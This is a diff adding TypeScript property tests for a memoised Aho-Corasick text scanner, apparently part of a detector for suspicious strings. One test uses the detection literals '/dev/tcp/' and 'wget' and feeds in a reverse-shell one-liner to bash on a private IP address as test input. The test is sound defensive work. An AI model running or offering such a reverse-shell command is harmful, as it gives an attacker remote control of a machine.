@@ -88,3 +88,49 @@ test('ScanMemo reports what scanning each automaton reports, on first and repeat
     { numRuns: 500 },
   );
 });
+
+test('ScanMemo: texts skipped by their character classes are exactly texts without a literal', async () => {
+  const { ScanMemo } = await import('./aho.js');
+  // Hex ids, times and paths against letters, punctuation and characters whose case folds across
+  // ASCII (Kelvin sign → k, dotless ı ↔ I, long ſ ↔ S, İ → i + dot).
+  const chars = ['a', 'f', '0', '9', '-', '{', '}', ':', '/', ' ', '.', 'g', 'k', 'S', 's', 'I', 'i', 'x', '@', '\u212a', '\u0131', '\u017f', '\u0130'];
+  const word = fc.array(fc.constantFrom(...chars), { minLength: 1, maxLength: 4 }).map((a) => a.join('').toLowerCase());
+  fc.assert(
+    fc.property(
+      fc.array(word, { minLength: 1, maxLength: 8 }),
+      fc.array(
+        fc.array(fc.constantFrom(...chars), { maxLength: 40 }).map((a) => a.join('')),
+        { maxLength: 6 },
+      ),
+      (words, texts) => {
+        const ac = new AhoCorasick();
+        words.forEach((w, i) => ac.add(w, i));
+        const memo = new ScanMemo([ac]);
+        for (const text of texts) {
+          const expected = new Set<number>();
+          ac.scan(text, (id) => expected.add(id));
+          const got = new Set<number>();
+          memo.find(text, (id) => got.add(id), 0);
+          assert.deepEqual([...got].sort(), [...expected].sort(), JSON.stringify({ words, text }));
+        }
+      },
+    ),
+    { numRuns: 1000 },
+  );
+});
+
+test('ScanMemo skips GUIDs and hashes for literals they cannot hold, and says how many', async () => {
+  const { ScanMemo } = await import('./aho.js');
+  const ac = new AhoCorasick();
+  ac.add('/dev/tcp/', 0);
+  ac.add('wget', 1);
+  const memo = new ScanMemo([ac]);
+  const got: number[] = [];
+  for (const t of ['{89f80f87-f47e-da24-8da5-95047cb10aec}', 'F88D23D7FA02BDC806780E6BDF2379DF', '2026-03-04 05:00:00.003'])
+    memo.find(t, (id) => got.push(id), 0);
+  assert.equal(memo.skipped, 3);
+  memo.find('bash -i >& /dev/tcp/10.0.0.1/4444', (id) => got.push(id), 0);
+  memo.find('WGET http://x', (id) => got.push(id), 0);
+  assert.deepEqual(got, [0, 1]);
+  assert.equal(memo.skipped, 3);
+});
